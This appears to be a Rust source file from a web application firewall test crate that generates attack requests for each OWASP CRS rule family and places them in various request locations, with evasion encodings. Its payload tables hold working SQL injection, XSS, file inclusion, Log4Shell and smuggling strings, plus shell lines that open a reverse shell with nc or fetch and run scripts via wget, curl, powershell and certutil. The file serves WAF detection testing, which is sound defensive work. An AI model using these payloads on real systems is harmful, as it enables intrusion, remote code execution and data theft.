//! Attack traffic for every CRS 3.3.4 request family (911-944). Two shapes:
//!
//! * payload families (SQLi, XSS, LFI, ...): a payload string, disguised by an encoding
//!   variant, is placed in one of nine request locations (query, urlencoded body, cookie,
//!   header, path, multipart field, multipart filename, JSON, XML);
//! * structural families (method, scanner, protocol, multipart): the attack is the shape of
//!   the request itself (a method, a user agent, a bad Range, a charset in a part header).
//!
//! [`AttackGen::next`] walks a fixed schedule of every (payload family, location) pair and
//! every structural family in turn, so any corpus of a few hundred requests holds them all;
//! the payload, the variant and the rest of the request are drawn from the dice. Every
//! payload here was written for this crate; they are the well-known textbook forms.
//! `kind` is `attack/<family>/<location>`; it says where the payload was put, not that
//! CRS detects it there.

use crate::GeneratedRequest;
use crate::dice::Dice;
use crate::http::{
    Json, Part, form_encode, multipart_body, pct_encode, pct_encode_all, set_content_length,
    xml_escape,
};
use crate::words::*;
use waf_engine::request::Request;

/// Families whose payload can go anywhere.
const PAYLOAD_FAMILIES: &[&str] = &[
    "protocol-attack",
    "lfi",
    "rfi",
    "rce-unix",
    "rce-windows",
    "php",
    "nodejs",
    "xss",
    "sqli",
    "session-fixation",
    "java",
];

/// Families that are the shape of a request.
const STRUCTURAL_FAMILIES: &[&str] = &["method", "scanner", "protocol", "multipart"];

/// Every attack family, CRS file order.
pub const FAMILIES: &[&str] = &[
    "method",
    "scanner",
    "protocol",
    "protocol-attack",
    "multipart",
    "lfi",
    "rfi",
    "rce-unix",
    "rce-windows",
    "php",
    "nodejs",
    "xss",
    "sqli",
    "session-fixation",
    "java",
];

/// Where a payload family's payload is placed; every payload family appears in each.
pub const LOCATIONS: &[&str] = &[
    "query",
    "urlencoded",
    "cookie",
    "header",
    "path",
    "multipart-field",
    "multipart-filename",
    "json",
    "xml",
];

/// Attack payloads by family. Where a family has a CRS rule about one detail (an IP
/// address in an RFI URL for 931100, a trailing `?` for 931120), some payloads carry it.
fn payloads(family: &str) -> &'static [&'static str] {
    match family {
        "protocol-attack" => &[
            "x\r\nGET /admin HTTP/1.1\r\nHost: internal.example.com\r\n\r\n",
            "en\r\nSet-Cookie: sessionid=attacker",
            "/\r\nLocation: https://evil.example.net/",
            "ok\r\n\r\n<html><body>defaced</body></html>",
            "*)(uid=*))(|(uid=*",
            "admin)(&(password=*))",
            "a\nContent-Length: 0\n\nPOST /transfer HTTP/1.1",
        ],
        "lfi" => &[
            "../../../../etc/passwd",
            "..\\..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/shadow",
            "/etc/passwd",
            "../../../../proc/self/environ",
            "..%2f..%2f..%2fetc%2fpasswd",
            "../../.htaccess",
            "/var/www/html/../../../etc/hosts",
        ],
        "rfi" => &[
            "http://203.0.113.66/shell.txt?",
            "https://198.51.100.23/r57.php",
            "ftp://192.0.2.45/backdoor.txt?",
            "http://evil.example.net/include.php??",
            "https://attacker.example.org/c99.txt?",
            "file:///etc/passwd?",
        ],
        "rce-unix" => &[
            "; cat /etc/passwd",
            "| id",
            "127.0.0.1; uname -a",
            "$(whoami)",
            "`id`",
            "&& wget http://198.51.100.9/x.sh -O /tmp/x.sh && sh /tmp/x.sh",
            "() { :; }; /bin/bash -c 'cat /etc/passwd'",
            ";nc -e /bin/sh 203.0.113.5 4444",
            "|| curl http://203.0.113.7/p | bash",
        ],
        "rce-windows" => &[
            "& dir c:\\",
            "| type C:\\Windows\\win.ini",
            "&& cmd.exe /c whoami",
            "; powershell -nop -w hidden -c Invoke-WebRequest http://203.0.113.8/a.exe",
            "| net user hacker P4ssw0rd /add",
            "& certutil -urlcache -split -f http://198.51.100.4/p.exe p.exe",
            "|for /f %i in ('whoami') do echo %i",
        ],
        "php" => &[
            "<?php system($_GET['c']); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "<?= shell_exec('id') ?>",
            "phpinfo();",
            "allow_url_include=On",
            "$_SERVER['DOCUMENT_ROOT']",
            "eval(base64_decode('ZWNobyAxOw=='));",
            "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        ],
        "nodejs" => &[
            "require('child_process').exec('id')",
            "_$$ND_FUNC$$_function(){require('child_process').execSync('whoami')}()",
            "process.mainModule.require('child_process').execSync('ls')",
            "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
            "require(\"fs\").readFileSync(\"/etc/passwd\")",
        ],
        "xss" => &[
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.domain)>",
            "javascript:alert(document.cookie)",
            "<svg/onload=alert(1)>",
            "\"><iframe src=javascript:alert(1)>",
            "<body onload=alert('xss')>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "';alert(String.fromCharCode(88,83,83))//",
            "<math><mi xlink:href=\"javascript:alert(1)\">",
        ],
        "sqli" => &[
            "' OR '1'='1",
            "1 UNION SELECT username, password FROM users--",
            "1; DROP TABLE users--",
            "admin'--",
            "1' AND SLEEP(5)#",
            "1 AND 1=CONVERT(int, @@version)",
            "' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables--",
            "1' AND extractvalue(1,concat(0x7e,version()))--",
            "1 OR benchmark(5000000,md5(1))",
            "'; EXEC xp_cmdshell('dir')--",
            "1' ORDER BY 3--",
        ],
        "session-fixation" => &[
            "<script>document.cookie=\"PHPSESSID=fixated123; path=/; domain=.example.com\"</script>",
            "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=0123456789abcdef\">",
            "document.cookie=\"sessionid=deadbeef;expires=Fri, 31 Dec 2038 23:59:59 GMT\"",
        ],
        "java" => &[
            "${jndi:ldap://203.0.113.10:1389/Exploit}",
            "${${lower:j}ndi:${lower:r}mi://198.51.100.2/a}",
            "${jndi:dns://evil.example.net/x}",
            "java.lang.Runtime.getRuntime().exec(\"id\")",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
            "com.opensymphony.xwork2.dispatcher.HttpServletRequest",
        ],
        _ => &[],
    }
}

/// A parameter name an attacker would aim the family at.
fn param_name(d: &mut Dice, family: &str) -> &'static str {
    match family {
        "lfi" => d.pick(&["file", "page", "template", "path"]),
        "rfi" => d.pick(&["url", "include", "src", "page"]),
        "rce-unix" | "rce-windows" => d.pick(&["host", "cmd", "ip", "exec"]),
        "sqli" => d.pick(&["id", "user", "order", "q"]),
        "php" | "nodejs" | "java" => d.pick(&["data", "input", "q", "payload"]),
        "session-fixation" => d.pick(&["msg", "comment"]),
        _ => d.pick(&["q", "name", "comment", "redirect"]),
    }
}

#[derive(Clone, Copy)]
enum Slot {
    Payload(&'static str, &'static str),
    Structural(&'static str),
}

/// The attack generator: a schedule position plus the dice it is given.
pub(crate) struct AttackGen {
    schedule: Vec<Slot>,
    pos: usize,
}

impl AttackGen {
    pub(crate) fn new() -> AttackGen {
        let mut schedule = Vec::new();
        for &f in STRUCTURAL_FAMILIES {
            schedule.push(Slot::Structural(f));
        }
        for &l in LOCATIONS {
            for &f in PAYLOAD_FAMILIES {
                schedule.push(Slot::Payload(f, l));
            }
            // Structural families recur once per location round, so their own cases are
            // drawn as often as a payload family's.
            for &f in STRUCTURAL_FAMILIES {
                schedule.push(Slot::Structural(f));
            }
        }
        AttackGen { schedule, pos: 0 }
    }

    /// The next attack in schedule order.
    pub(crate) fn next(&mut self, d: &mut Dice) -> GeneratedRequest {
        let slot = self.schedule[self.pos % self.schedule.len()];
        self.pos += 1;
        build(d, slot)
    }

    /// An attack from a random place in the schedule (for the mixed profile).
    pub(crate) fn next_random(&mut self, d: &mut Dice) -> GeneratedRequest {
        let slot = d.pick(&self.schedule);
        build(d, slot)
    }
}

fn build(d: &mut Dice, slot: Slot) -> GeneratedRequest {
    match slot {
        Slot::Payload(family, location) => payload_request(d, family, location),
        Slot::Structural(family) => structural_request(d, family),
    }
}

/// The disguise applied to a payload.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Variant {
    Plain,
    /// Every byte percent-encoded.
    Pct,
    /// Every byte percent-encoded twice (`%252e`).
    DoublePct,
    /// Letters in random case.
    Case,
    /// A family-specific filler: SQL `/**/` for spaces, `${IFS}` in shell, `^` in cmd.
    Comment,
}

impl Variant {
    fn name(self) -> &'static str {
        match self {
            Variant::Plain => "plain",
            Variant::Pct => "pct",
            Variant::DoublePct => "double-pct",
            Variant::Case => "case",
            Variant::Comment => "comment",
        }
    }
}

fn pick_variant(d: &mut Dice, family: &str, location: &str) -> Variant {
    let url_decoded = matches!(location, "query" | "urlencoded" | "path" | "cookie");
    let has_comment = matches!(family, "sqli" | "rce-unix" | "rce-windows" | "xss");
    let roll = d.below(100);
    match roll {
        0..=54 => Variant::Plain,
        55..=69 if url_decoded => Variant::Pct,
        70..=74 if url_decoded && family == "lfi" => Variant::DoublePct,
        75..=87 => Variant::Case,
        88..=99 if has_comment => Variant::Comment,
        _ => Variant::Plain,
    }
}

fn random_case(d: &mut Dice, s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_alphabetic() && d.chance(50) {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

/// The payload after a text-level variant (`Case`, `Comment`); the percent variants are
/// applied when the payload is placed, because only the placement knows the wire form.
fn disguise(d: &mut Dice, family: &str, payload: &str, v: Variant) -> String {
    match v {
        Variant::Case => random_case(d, payload),
        Variant::Comment => match family {
            "sqli" => payload.replace(' ', "/**/"),
            "rce-unix" => payload.replace(' ', "${IFS}"),
            // cmd.exe drops a caret before an ordinary character.
            "rce-windows" => payload
                .split(' ')
                .map(|w| {
                    if w.len() > 3 && w.chars().all(|c| c.is_ascii_alphabetic()) {
                        w.chars().map(|c| c.to_string()).collect::<Vec<_>>().join("^")
                    } else {
                        w.to_string()
                    }
                })
                .collect::<Vec<_>>()
                .join(" "),
            // HTML allows `/` where a space separates a tag name from its attributes.
            "xss" => payload.replacen(' ', "/", 1),
            _ => payload.to_string(),
        },
        _ => payload.to_string(),
    }
}

/// How a payload is written into a URL part: the minimum a browser or a tool would
/// encode, or everything for the percent variants.
fn url_form(payload: &str, v: Variant, keep: &[u8]) -> String {
    match v {
        Variant::Pct => pct_encode_all(payload.as_bytes()),
        Variant::DoublePct => pct_encode_all(payload.as_bytes()).replace('%', "%25"),
        _ => pct_encode(payload.as_bytes(), keep, false),
    }
}

const QUERY_KEEP: &[u8] = b"/:;=,()*!$'@?[]";
const PATH_KEEP: &[u8] = b"/:;=,()*!$'@";

struct Draft {
    method: String,
    uri: String,
    version: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

/// A plain request from an attack tool or a browser: the frame a payload goes into.
fn base(d: &mut Dice, method: &str, uri: String) -> Draft {
    let ua = if d.chance(60) {
        d.pick(CHROME_UA)
    } else {
        d.pick(&["python-requests/2.31.0", "curl/8.4.0", "Go-http-client/1.1"])
    };
    let mut headers = vec![
        ("Host".to_string(), "shop.example.com".to_string()),
        ("User-Agent".to_string(), ua.to_string()),
        ("Accept".to_string(), "*/*".to_string()),
        ("Accept-Encoding".to_string(), "gzip, deflate".to_string()),
    ];
    if d.chance(60) {
        headers.push(("Accept-Language".into(), "en-US,en;q=0.9".into()));
    }
    headers.push(("Connection".into(), "close".into()));
    Draft { method: method.into(), uri, version: "HTTP/1.1".into(), headers, body: Vec::new() }
}

fn with_body(mut draft: Draft, content_type: &str, body: Vec<u8>) -> Draft {
    draft.method = "POST".into();
    draft.headers.push(("Content-Type".into(), content_type.into()));
    draft.body = body;
    draft
}

fn finish(
    d: &mut Dice,
    kind: String,
    encoding: Option<&str>,
    mut draft: Draft,
) -> GeneratedRequest {
    // A deliberate Content-Length (the smuggling case) is kept; any other is set here.
    if !draft.headers.iter().any(|(n, _)| n == "Content-Length") {
        set_content_length(&mut draft.headers, &draft.method, draft.body.len());
    }
    let (client_ip, client_port) = crate::client_addr(d);
    GeneratedRequest {
        kind,
        encoding: encoding.map(str::to_string),
        request: Request {
            id: String::new(),
            method: draft.method,
            uri: draft.uri.into_bytes(),
            version: draft.version,
            headers: draft.headers,
            body: draft.body,
            client_ip,
            client_port,
            server_ip: crate::SERVER_IP.into(),
            server_port: 443,
        },
    }
}

fn payload_request(d: &mut Dice, family: &'static str, location: &'static str) -> GeneratedRequest {
    let raw = d.pick(payloads(family));
    let v = pick_variant(d, family, location);
    let payload = disguise(d, family, raw, v);
    let name = param_name(d, family);
    // The variants that only make sense on a URL-decoded location become a plain
    // percent-encoded value elsewhere (a JSON string holding `%3Cscript%3E`).
    let value_text = match v {
        Variant::Pct | Variant::DoublePct => url_form(&payload, v, b""),
        _ => payload.clone(),
    };
    let draft = match location {
        "query" => {
            let mut uri = format!("/search?{name}={}", url_form(&payload, v, QUERY_KEEP));
            if d.chance(40) {
                uri.push_str(&format!("&page={}", d.between(1, 9)));
            }
            let mut draft = base(d, "GET", uri);
            // Session ids in the URL with a foreign Referer: what 943110/943120 look for.
            if family == "session-fixation" && d.chance(50) {
                let sid = d.pick(&["PHPSESSID", "JSESSIONID", "ASPSESSIONID", "sessionid"]);
                draft.uri = format!("/login?{sid}={}", d.hex(26));
                draft.headers.push(("Referer".into(), "http://attacker.example.org/".into()));
            }
            draft
        }
        "urlencoded" => {
            let body = format!("{name}={}&submit=Send", url_form(&payload, v, QUERY_KEEP));
            let draft = base(d, "POST", "/contact".into());
            with_body(draft, "application/x-www-form-urlencoded", body.into_bytes())
        }
        "cookie" => {
            let mut draft = base(d, "GET", "/account".into());
            // A raw `;` would end the cookie; percent-encode it as a browser would store it.
            let value = match v {
                Variant::Pct | Variant::DoublePct => url_form(&payload, v, b""),
                _ => payload.replace(';', "%3B"),
            };
            draft.headers.push(("Cookie".into(), format!("sid={}; {name}={value}", d.hex(32))));
            draft
        }
        "header" => {
            let mut draft = base(d, "GET", "/".into());
            let header = d.pick(&["User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For"]);
            draft.headers.retain(|(n, _)| n != header);
            draft.headers.push((header.into(), value_text.clone()));
            draft
        }
        "path" => {
            let uri = if family == "lfi" {
                format!("/static/{}", url_form(&payload, v, PATH_KEEP))
            } else {
                format!("/products/{}", url_form(&payload, v, PATH_KEEP))
            };
            base(d, "GET", uri)
        }
        "multipart-field" | "multipart-filename" => {
            let boundary = format!("----WebKitFormBoundary{}", d.alnum(16));
            let parts = if location == "multipart-field" {
                vec![Part::field(name, &value_text), Part::field("submit", "Send")]
            } else {
                vec![
                    Part::field("description", "profile picture"),
                    Part::file(
                        "upload",
                        &value_text,
                        "application/octet-stream",
                        b"GIF89a\x01\x00\x01\x00".to_vec(),
                    ),
                ]
            };
            let draft = base(d, "POST", "/upload".into());
            let ct = format!("multipart/form-data; boundary={boundary}");
            with_body(draft, &ct, multipart_body(&boundary, &parts))
        }
        "json" => {
            let doc = Json::Obj(vec![
                ("id", Json::from(d.between(1, 9999))),
                (name, Json::from(value_text)),
                ("lang", Json::from("en")),
            ]);
            let draft = base(d, "POST", "/api/v2/feedback".into());
            with_body(draft, "application/json", doc.to_text().into_bytes())
        }
        _ => {
            let doc = format!(
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<request><id>{}</id><{name}>{}</{name}></request>",
                d.between(1, 9999),
                xml_escape(&value_text)
            );
            let draft = base(d, "POST", "/api/v1/import".into());
            with_body(draft, "application/xml", doc.into_bytes())
        }
    };
    finish(d, format!("attack/{family}/{location}"), Some(v.name()), draft)
}

fn structural_request(d: &mut Dice, family: &'static str) -> GeneratedRequest {
    let (location, draft) = match family {
        "method" => {
            let m = d.pick(&[
                "TRACE",
                "TRACK",
                "PROPFIND",
                "PROPPATCH",
                "MKCOL",
                "COPY",
                "MOVE",
                "LOCK",
                "UNLOCK",
                "DEBUG",
                "CONNECT",
                "PURGE",
            ]);
            ("method", base(d, m, "/".into()))
        }
        "scanner" => scanner(d),
        "protocol" => protocol(d),
        _ => multipart(d),
    };
    finish(d, format!("attack/{family}/{location}"), Some("plain"), draft)
}

fn scanner(d: &mut Dice) -> (&'static str, Draft) {
    match d.below(3) {
        0 => {
            let mut draft = base(d, "GET", "/".into());
            draft.headers.retain(|(n, _)| n != "User-Agent");
            draft.headers.push(("User-Agent".into(), d.pick(SCANNER_UA).to_string()));
            ("header", draft)
        }
        1 => {
            let mut draft = base(d, "GET", "/index.html".into());
            let (n, v) = d.pick(&[
                (
                    "Acunetix-Product",
                    "WVS/11.0 (Acunetix Web Vulnerability Scanner - Free Edition)",
                ),
                ("X-Scanner", "Netsparker"),
                ("Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"),
            ]);
            draft.headers.push((n.into(), v.into()));
            ("header", draft)
        }
        _ => {
            let p = d.pick(&[
                "/nessustest",
                "/acunetix-wvs-test-for-some-inexistent-file",
                "/appscan_fingerprint/mac_address",
                "/w00tw00t.at.ISC.SANS.DFind:)",
                "/thereisnowaythat-you-canbethere",
            ]);
            ("path", base(d, "GET", p.into()))
        }
    }
}

fn protocol(d: &mut Dice) -> (&'static str, Draft) {
    let mut draft = base(d, "GET", "/".into());
    let set = |draft: &mut Draft, n: &str, v: &str| {
        draft.headers.retain(|(h, _)| !h.eq_ignore_ascii_case(n));
        draft.headers.push((n.into(), v.into()));
    };
    let location = match d.below(16) {
        0 => {
            draft.version = d.pick(&["HTTP/1.2", "HTTP/3.0", "HTTP/0.8"]).to_string();
            "request-line"
        }
        1 => {
            set(&mut draft, "Host", "10.0.0.10");
            "header"
        }
        2 => {
            draft.headers.retain(|(h, _)| h != "Host");
            "header"
        }
        3 => {
            set(&mut draft, "User-Agent", "");
            "header"
        }
        4 => {
            // Many overlapping ranges, the shape of the Apache "Range" DoS.
            let ranges: Vec<String> = (0..20).map(|i| format!("{i}-{}", i + 1)).collect();
            set(&mut draft, "Range", &format!("bytes=0-,{}", ranges.join(",")));
            "header"
        }
        5 => {
            set(&mut draft, "Range", "bytes=500-100");
            "header"
        }
        6 => {
            set(&mut draft, "Connection", "keep-alive, close");
            "header"
        }
        7 => {
            let h = d.pick(&[
                ("Proxy", "http://203.0.113.9:8080"),
                ("Content-Range", "bytes 0-10/20"),
                ("Lock-Token", "<opaquelocktoken:1>"),
                ("Accept-Charset", "utf-7"),
            ]);
            set(&mut draft, h.0, h.1);
            "header"
        }
        8 => {
            draft = with_body(
                draft,
                d.pick(&[
                    "text/x-shellscript",
                    "application/x-custom",
                    "application/json; charset=utf-7",
                ]),
                b"{\"a\":1}".to_vec(),
            );
            "header"
        }
        9 => {
            // A GET with a body.
            draft.body = b"q=hidden".to_vec();
            draft.headers.push(("Content-Type".into(), "application/x-www-form-urlencoded".into()));
            "header"
        }
        10 => {
            // Both Content-Length and Transfer-Encoding: the classic smuggling frame.
            draft.method = "POST".into();
            draft.uri = "/api/v2/events".into();
            let body = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.example.com\r\n\r\n".to_vec();
            draft.headers.push(("Content-Type".into(), "application/x-www-form-urlencoded".into()));
            draft.headers.push(("Content-Length".into(), body.len().to_string()));
            draft.headers.push(("Transfer-Encoding".into(), "chunked".into()));
            draft.body = body;
            "header"
        }
        11 => {
            draft.uri = format!(
                "/search?q={}",
                d.pick(&["%GGtest", "abc%2", "%u0027%u003c", "%uff1cscript%uff1e"])
            );
            "query"
        }
        12 => {
            draft.uri = "/download?file=report.pdf%00.html".into();
            "query"
        }
        13 => {
            draft.uri = d
                .pick(&[
                    "/backup/site.sql",
                    "/db/users.bak",
                    "/app/web.config",
                    "/index.php~",
                    "/.env",
                    "/wp-config.php.old",
                ])
                .to_string();
            "path"
        }
        14 => {
            draft =
                with_body(draft, "application/x-www-form-urlencoded", b"name=%zzbad&x=%".to_vec());
            "urlencoded"
        }
        _ => {
            // Transfer-Encoding on a GET, which has no body to frame.
            draft.uri =
                format!("/search?{}", form_encode(&[("q".to_string(), d.pick(NOUNS).to_string())]));
            set(&mut draft, "Transfer-Encoding", "chunked");
            "header"
        }
    };
    (location, draft)
}

fn multipart(d: &mut Dice) -> (&'static str, Draft) {
    let boundary = format!("----WebKitFormBoundary{}", d.alnum(16));
    let mut field = Part::field("comment", "hello");
    let (location, body) = match d.below(4) {
        0 => {
            let parts = [Part::field("_charset_", d.pick(&["utf-7", "utf-16", "ibm037"])), field];
            ("multipart-field", multipart_body(&boundary, &parts))
        }
        1 => {
            field.content_type = Some(
                d.pick(&["text/plain; charset=utf-7", "text/plain; charset=ibm500"]).to_string(),
            );
            ("multipart-header", multipart_body(&boundary, &[field]))
        }
        2 => {
            field.extra_headers.push(format!(
                "Content-Transfer-Encoding: {}",
                d.pick(&["base64", "quoted-printable"])
            ));
            ("multipart-header", multipart_body(&boundary, &[field]))
        }
        _ => {
            // Data before the first boundary and no closing delimiter: what strict
            // multipart parsing refuses.
            let mut b = b"preamble junk\r\n".to_vec();
            b.extend(multipart_body(&boundary, &[field]));
            let cut = b.len() - boundary.len() - 6;
            b.truncate(cut);
            ("multipart-body", b)
        }
    };
    let draft = base(d, "POST", "/upload".into());
    (location, with_body(draft, &format!("multipart/form-data; boundary={boundary}"), body))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn schedule_covers_every_family_and_location_in_one_cycle() {
        let mut g = AttackGen::new();
        let mut d = Dice::new(9);
        let n = g.schedule.len();
        let reqs: Vec<_> = (0..n).map(|_| g.next(&mut d)).collect();
        for f in FAMILIES {
            assert!(reqs.iter().any(|r| r.family() == Some(f)), "{f}");
        }
        for f in PAYLOAD_FAMILIES {
            for l in LOCATIONS {
                assert!(
                    reqs.iter().any(|r| r.family() == Some(f) && r.location() == Some(l)),
                    "{f}/{l}"
                );
            }
        }
    }

    #[test]
    fn every_payload_family_has_payloads() {
        for f in PAYLOAD_FAMILIES {
            assert!(payloads(f).len() >= 3, "{f}");
        }
    }

    #[test]
    fn variants_table() {
        let mut d = Dice::new(1);
        let cases = [
            ("sqli", "1 OR 1", Variant::Comment, "1/**/OR/**/1"),
            ("rce-unix", "cat /etc/passwd", Variant::Comment, "cat${IFS}/etc/passwd"),
            ("rce-windows", "cmd /c whoami", Variant::Comment, "cmd /c w^h^o^a^m^i"),
            ("xss", "<svg onload=x>", Variant::Comment, "<svg/onload=x>"),
            ("lfi", "../x", Variant::Plain, "../x"),
        ];
        for (family, input, v, want) in cases {
            assert_eq!(disguise(&mut d, family, input, v), want);
        }
        let c = disguise(&mut d, "xss", "<script>", Variant::Case);
        assert_eq!(c.to_ascii_lowercase(), "<script>");
        assert_eq!(url_form("../", Variant::DoublePct, b""), "%252E%252E%252F");
        assert_eq!(url_form("a b;", Variant::Plain, QUERY_KEEP), "a%20b;");
    }
}
